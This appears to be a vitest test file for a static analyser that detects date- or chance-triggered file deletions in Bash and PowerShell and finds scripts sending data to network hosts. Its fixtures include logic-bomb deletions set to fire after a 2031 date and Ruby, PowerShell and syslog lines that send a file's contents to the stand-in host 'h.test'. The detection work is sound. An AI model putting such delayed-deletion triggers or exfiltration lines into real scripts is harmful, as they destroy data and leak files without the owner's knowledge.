// Branches of shells: what is done in one hangs on a day that is written down, on chance, or on neither. And where datagrams go.
import { beforeAll, describe, expect, it } from 'vitest';
import type { PathFact } from '../../src/model/fact.ts';
import { prepare, run } from '../../test/analysis/code/harness.ts';

beforeAll(prepare);

/** What the first deletion hangs on. */
const asked = (ending: 'sh' | 'ps1', text: string): string =>
  (
    run({ [`a.${ending}`]: text })
      .of<PathFact>('path')
      .find((one) => one.access === 'delete')?.guard ?? []
  ).join('+');
const sent = (ending: 'sh' | 'ps1' | 'rb', text: string) =>
  run({ [`a.${ending}`]: text })
    .flows()
    .map((one) => `${one.to} ${one.host}`);

describe('bash waits for a day', () => {
  it.each([
    '[ $(date +%s) -gt 1924992000 ] && rm a',
    'if [[ $(date +%s) -ge 1924992000 ]]; then rm a; fi',
    'if (( $(date +%s) > 1924992000 )); then rm a; fi',
    'if (( EPOCHSECONDS >= 1924992000 )); then rm a; fi',
    'if [[ $(date +%Y%m%d) > 20310301 ]]; then rm a; fi',
    '[ "$(date +%Y)" -ge 2031 ] && rm a',
    'now=$(date +%s); day=1924992000\nif [ "$now" -ge "$day" ]; then rm a; fi',
    '[ $(date +%s) -gt $(date -d 2031-03-01 +%s) ] && rm a',
    'for f in *; do\n  [ $(date +%s) -lt 1924992000 ] && continue\n  rm a\ndone',
    '[ $(date +%s) -lt 1924992000 ] && exit\nrm a',
    'day=${DAY:-20310301}\n(( $(date +%Y%m%d) < day )) || rm a',
  ])('%s', (text) => expect(asked('sh', text)).toBe('clock+date'));
  it.each([
    ['the age of a file', '[ $(( $(date +%s) - $(stat -c %Y a) )) -gt 86400 ] && rm a', ''],
    ['the hour', '[ "$(date +%H)" -ge 22 ] && rm a', 'clock'],
    ['a size', '[ $(wc -c < a) -gt 1924992000 ] && rm a', ''],
    ['a word put down from a day on', 'go=\n(( $(date +%Y%m%d) >= 20310301 )) && go=1\n[ -n "$go" ] && rm a', 'date'],
    ['a word put down by day', 'go=\n[ $(date +%u) = 7 ] && go=1\n[ -n "$go" ] && rm a', ''],
    ['chance', '(( RANDOM % 20 == 3 )) && rm a', 'random'],
    ['chance', '[ $((RANDOM % 20)) -eq 3 ] && rm a', 'random'],
    ['nothing', 'rm a.$RANDOM', ''],
  ])('not for %s: %s', (_, text, told) => expect(asked('sh', text)).toBe(told));
});

describe('PowerShell waits for a day', () => {
  it.each([
    "if ((Get-Date) -gt [datetime]'2031-03-01') { Remove-Item a }",
    "if ([DateTime]::UtcNow -ge [datetime]::Parse('2031-03-01')) { Remove-Item a }",
    'if ([System.DateTime]::Now -gt [System.DateTime]::new(2031, 3, 1)) { Remove-Item a }',
    "if ((Get-Date) -lt (Get-Date '2031-03-01')) { return }\nRemove-Item a",
    "foreach ($f in $all) {\n  if ((Get-Date) -lt [datetime]'2031-03-01') { continue }\n  Remove-Item a\n}",
    'if ((Get-Date).Year -ge 2031) { Remove-Item a }',
  ])('%s', (text) => expect(asked('ps1', text)).toBe('clock+date'));
  it.each([
    ['how long it took', '$t = Get-Date\nif (((Get-Date) - $t).TotalSeconds -gt 30) { Remove-Item a }', 'clock'],
    ['chance', 'if ((Get-Random -Maximum 20) -eq 3) { Remove-Item a }', 'random'],
    ['a count', 'if ($all.Count -gt 2031) { Remove-Item a }', ''],
    ['what is behind it', "if ((Get-Date) -gt [datetime]'2031-03-01') { 'late' }\nRemove-Item a", ''],
  ])('not for %s: %s', (_, text, told) => expect(asked('ps1', text)).toBe(told));
  it('a word that leaves takes nothing of the next line along', () =>
    expect(asked('ps1', 'function f {\n  if ($x) {\n    return\n  }\n}\nRemove-Item a')).toBe(''));
});

describe('where a datagram goes', () => {
  it.each([
    [
      'ps1',
      "$u = New-Object Net.Sockets.UdpClient\n$b = [IO.File]::ReadAllBytes('k')\n$u.Send($b, $b.Length, 'h.test', 514)",
    ],
    [
      'ps1',
      "$u = New-Object Net.Sockets.UdpClient('h.test', 514)\n$b = [IO.File]::ReadAllBytes('k')\n$u.Send($b, $b.Length)",
    ],
    ['rb', "s = UDPSocket.new\ns.send(File.read('k'), 0, 'h.test', 514)"],
    ['rb', "s = TCPSocket.new('h.test', 514)\ns.send(File.read('k'), 0)"],
    ['sh', 'logger -n h.test -P 514 "$(cat k)"'],
  ] as const)('%s: %s', (ending, text) => expect(sent(ending, text)).toContain('network h.test'));
  it('what is logged here goes nowhere', () => expect(sent('sh', 'logger -t job "$(cat k)"')).toEqual([]));
});
